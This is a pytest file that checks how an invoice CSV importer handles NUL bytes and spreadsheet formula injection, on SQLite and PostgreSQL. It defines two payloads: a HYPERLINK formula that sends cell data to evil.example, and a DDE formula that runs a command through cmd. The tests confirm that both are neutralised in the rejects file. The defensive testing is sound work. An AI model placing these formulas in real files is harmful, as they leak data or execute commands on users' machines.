"""Hostile invoice files: NUL bytes and spreadsheet formulas, on SQLite and PostgreSQL."""

from __future__ import annotations

import csv
import json
from decimal import Decimal
from pathlib import Path

import pytest
from sqlalchemy import select

from agent.cli.main import main
from agent.db.database import Database
from agent.profile.tables import Account, Invoice
from tests.factories import canonical_row, write_csv

HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&B2, "Pay now")'
CALC = "=cmd|' /C calc'!A0"


@pytest.fixture
def cli_db(database: Database, monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> Database:
    monkeypatch.setenv("NUDGE_DATABASE_URL", database.engine.url.render_as_string(hide_password=False))
    monkeypatch.setenv("NUDGE_HOME", str(tmp_path / "home"))
    return database


def import_file(capsys: pytest.CaptureFixture[str], path: Path) -> dict[str, object]:
    assert main(["import", str(path), "--json"]) == 0
    report: dict[str, object] = json.loads(capsys.readouterr().out.strip().splitlines()[-1])
    return report


def test_a_nul_in_a_cell_rejects_that_row_and_loads_the_others(
    cli_db: Database, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    rows = [
        canonical_row(invoice_id="INV-1"),
        canonical_row(invoice_id="INV-2", customer_name="North\x00wind"),
        canonical_row(invoice_id="INV-3"),
    ]
    report = import_file(capsys, write_csv(tmp_path / "book.csv", rows))
    assert (report["loaded"], report["rejects"]) == (
        2,
        [{"line": 3, "error": "customer_name: contains a NUL character"}],
    )
    with cli_db.sessions() as session:
        assert session.scalars(select(Invoice.number).order_by(Invoice.number)).all() == ["INV-1", "INV-3"]


def test_formulas_in_rejected_rows_are_neutralised_and_import_back_intact(
    cli_db: Database, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    rows = [
        canonical_row(
            invoice_id="INV-1",
            customer_id="C-002",
            customer_name=HYPERLINK,
            customer_domain="evil.example",
            amount="twelve",
        ),
        canonical_row(invoice_id=CALC, amount="-12.50", issue_date="31/12/2026"),
    ]
    report = import_file(capsys, write_csv(tmp_path / "book.csv", rows))
    rejects_file = Path(str(report["rejects_file"]))
    with rejects_file.open(newline="") as handle:
        kept = list(csv.DictReader(handle))
    assert [(r["customer_name"], r["invoice_id"], r["amount"]) for r in kept] == [
        ("'" + HYPERLINK, "INV-1", "twelve"),
        ("Northwind Logistics", "'" + CALC, "-12.50"),
    ]
    fixed = rejects_file.read_text().replace("twelve", "12.00").replace("31/12/2026", "2026-09-01")
    (tmp_path / "fixed.csv").write_text(fixed)
    again = import_file(capsys, tmp_path / "fixed.csv")
    assert (again["loaded"], again["rejects"]) == (2, [])
    with cli_db.sessions() as session:
        names = set(session.scalars(select(Account.name)))
        amounts = dict(session.execute(select(Invoice.number, Invoice.amount)).tuples().all())
    assert names == {HYPERLINK, "Northwind Logistics"}
    assert amounts == {"INV-1": Decimal("12.00"), CALC: Decimal("-12.50")}
